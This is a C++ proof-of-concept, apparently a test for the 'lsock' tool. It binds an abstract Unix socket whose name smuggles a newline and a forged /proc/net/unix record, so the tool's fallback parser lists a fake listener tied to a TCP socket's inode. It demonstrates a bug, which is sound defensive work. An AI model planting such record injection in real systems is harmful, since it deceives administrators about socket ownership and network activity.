// The /proc/net/unix fallback of `lsock ls` (used where sock_diag is missing): a local
// user binds an abstract listener whose name holds a newline and a forged record naming
// the inode of a TCP socket some process holds. socket_owners() maps every "socket:[N]"
// link, TCP included, so the forged inode is "owned" and listed once: the forged record
// is shown as a listening Unix socket of that process.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <iterator>
#include <set>
#include <string>
#include "platform.hpp"

int main() {
  // A TCP listener, as any daemon has (a process the lsock user can see).
  int tcp = socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in in{};
  in.sin_family = AF_INET;
  in.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  bind(tcp, reinterpret_cast<sockaddr*>(&in), sizeof in);
  listen(tcp, 1);
  struct stat st {};
  fstat(tcp, &st);
  // The attacker's abstract listener, the forged record in its name.
  std::string name = std::string(1, '\0') +
                     "rp-evil\n0000000000000000: 00000002 00000000 00010000 0001 01 " +
                     std::to_string(st.st_ino) + " /run/forged-by-attacker.sock";
  int u = socket(AF_UNIX, SOCK_STREAM, 0);
  sockaddr_un un{};
  un.sun_family = AF_UNIX;
  std::memcpy(un.sun_path, name.data(), name.size());
  if (bind(u, reinterpret_cast<sockaddr*>(&un), offsetof(sockaddr_un, sun_path) + name.size()) !=
      0) {
    perror("bind");
    return 1;
  }
  listen(u, 1);
  std::ifstream f("/proc/net/unix", std::ios::binary);
  const std::string text((std::istreambuf_iterator<char>(f)), std::istreambuf_iterator<char>());
  // owned(): what list_sockets passes: every socket inode found in /proc/*/fd (here: ours).
  const std::set<unsigned long> owners{static_cast<unsigned long>(st.st_ino), [&] {
                                         struct stat s2 {};
                                         fstat(u, &s2);
                                         return static_cast<unsigned long>(s2.st_ino);
                                       }()};
  for (const auto& r :
       lsock::parse_proc_net_unix(text, [&](unsigned long i) { return owners.count(i) != 0; })) {
    std::string shown = r.name;
    for (auto& c : shown)
      if (c == '\0')
        c = '@';
      else if (c == '\n')
        c = '|';
    std::printf("listed: type=%u inode=%lu name=%s%s\n", r.type, r.inode, shown.c_str(),
                r.inode == st.st_ino ? "   <-- FORGED (this inode is a TCP socket)" : "");
  }
}
